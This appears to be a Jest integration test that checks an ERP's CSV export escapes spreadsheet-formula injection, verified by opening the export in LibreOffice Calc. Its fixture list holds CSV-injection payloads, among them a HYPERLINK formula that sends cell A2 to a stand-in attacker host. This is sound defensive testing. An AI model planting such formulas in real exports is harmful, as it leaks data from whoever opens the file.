/**
 * CSV injection (OWASP): texts in the ERP are typed by outsiders (a vendor's reference, a ticket's
 * subject), and the README recommends `format=csv` for spreadsheets. A CSV export is opened in a real
 * spreadsheet engine (LibreOffice Calc, headless, with formula evaluation on) and what it computed is
 * read back: by default not one cell is a formula, every text shows as the ERP holds it behind a `'`
 * when it would have been one, and negative numbers are still numbers. With `csv_formulas=raw` the
 * same export makes the spreadsheet compute (which proves the check can fail). One conversion per case.
 */
import { asText, csvText } from '../support/export-loaders';
import { ErpWriter } from '../support/erp-writes';
import { openInSpreadsheet, type SpreadsheetCell } from '../support/spreadsheet';
import { startStack, type Stack } from '../support/stack';

type ApiRecord = { id: number; [field: string]: unknown };

const TEXT_FIELDS = ['vendor_reference', 'subject', 'budget_line', 'delivery_condition', 'origin'] as const;
const ERP_FIELDS: Record<(typeof TEXT_FIELDS)[number], string> = {
  vendor_reference: 'partner_ref',
  subject: 'subject',
  budget_line: 'budget_line',
  delivery_condition: 'delivery_condition',
  origin: 'origin',
};
const FIELDS = [...TEXT_FIELDS, 'amount_total'];
/** What outsiders may type: every start OWASP lists, the full-width forms, and texts that only look alike. */
const TEXTS = [
  '=1+1',
  '=HYPERLINK("https://attacker.example/?leak="&A2;"Invoice")',
  '=SUM(1,2)',
  '+1+2',
  '-1+2',
  '@SUM(1;2)',
  '\t=1+3',
  '\r=1+4',
  '\uFF1D1+5',
  'Ref =1+1 in the middle',
  "'=already quoted",
  '12-34',
  'plain text',
];
/** The records written (the last ones by id, so that `since_id` exports only them), with a negative amount each. */
const WRITTEN = Math.ceil(TEXTS.length / TEXT_FIELDS.length);

describe('CSV exports opened in a spreadsheet (LibreOffice Calc)', () => {
  let stack: Stack;
  let sinceId: number;
  let written: ApiRecord[];

  beforeAll(async () => {
    stack = await startStack();
    const ids: number[] = [];
    for (let cursor: number | null = 0; cursor !== null; ) {
      const res = await stack.get(`/api/v1/purchase/orders?since_id=${cursor}&limit=200&total=false&fields=id`);
      ids.push(...(res.body.data as ApiRecord[]).map((record) => record.id));
      cursor = res.body.meta.next_since_id;
    }
    const last = ids.slice(-WRITTEN);
    sinceId = ids[ids.length - WRITTEN - 1] as number;
    const erp = new ErpWriter(stack.dbPath);
    last.forEach((id, row) => {
      const vals: Record<string, string | number> = { amount_total: -12.5 - row };
      TEXT_FIELDS.forEach((field, column) => {
        vals[ERP_FIELDS[field]] = TEXTS[(row * TEXT_FIELDS.length + column) % TEXTS.length] as string;
      });
      erp.write('purchase.order', id, vals);
    });
    erp.close();
    const res = await stack.get(`/api/v1/purchase/orders?since_id=${sinceId}&limit=200&fields=${FIELDS.join(',')}`);
    written = res.body.data as ApiRecord[];
    // The oracle: the JSON list holds every text and every negative amount as written.
    expect(written.map((record) => record.id)).toEqual(last);
    expect(new Set(written.flatMap((record) => TEXT_FIELDS.map((field) => record[field])))).toEqual(new Set(TEXTS));
  });
  afterAll(async () => {
    await stack?.close();
  });

  const exportCsv = async (query: string): Promise<string> => {
    const res = await stack
      .get(`/api/v1/purchase/orders?format=csv&since_id=${sinceId}&fields=${FIELDS.join(',')}${query}`)
      .buffer(true)
      .parse(asText);
    expect(res.status).toBe(200);
    return res.body as string;
  };

  /** What LibreOffice shows for a text: a carriage return or line feed starts a new paragraph. */
  const shown = (text: string) => text.replace(/\r\n|\r|\n/g, '\n');

  it("by default, nothing is computed: every text shows as the ERP holds it (behind a ' when it would be a formula), and negative amounts are numbers", async () => {
    const sheet = openInSpreadsheet(await exportCsv(''));
    expect(sheet[0]?.slice(0, FIELDS.length + 1).map((cell) => cell.text)).toEqual(['id', ...FIELDS]);
    const rows = sheet.slice(1);
    expect(rows).toHaveLength(written.length);
    const formulas = rows.flat().filter((cell) => cell.formula !== null);
    expect(formulas).toEqual([]);
    rows.forEach((cells, row) => {
      const record = written[row] as ApiRecord;
      const cell = (field: string) => cells[FIELDS.indexOf(field) + 1] as SpreadsheetCell;
      expect([cells[0]?.type, cells[0]?.value]).toEqual(['float', record.id]);
      for (const field of TEXT_FIELDS) {
        const value = record[field] as string;
        expect([field, cell(field).type, cell(field).text]).toEqual([field, 'string', shown(csvText(value) as string)]);
      }
      // A number is never escaped: -12.5 stays the number -12.5.
      expect([cell('amount_total').type, cell('amount_total').value]).toEqual(['float', record['amount_total']]);
      expect(record['amount_total']).toBeLessThan(0);
    });
  }, 180_000);

  it('with csv_formulas=raw, the same texts go out as they are, and the spreadsheet computes them', async () => {
    const rows = openInSpreadsheet(await exportCsv('&csv_formulas=raw')).slice(1);
    const computed = rows.flat().filter((cell) => cell.formula !== null);
    expect(computed.map((cell) => cell.formula)).toEqual(expect.arrayContaining(['of:=1+1', 'of:=SUM(1;2)']));
    expect(computed.find((cell) => cell.formula === 'of:=1+1')?.value).toBe(2);
    expect(computed.some((cell) => cell.formula?.startsWith('of:=HYPERLINK('))).toBe(true);
  }, 180_000);
});
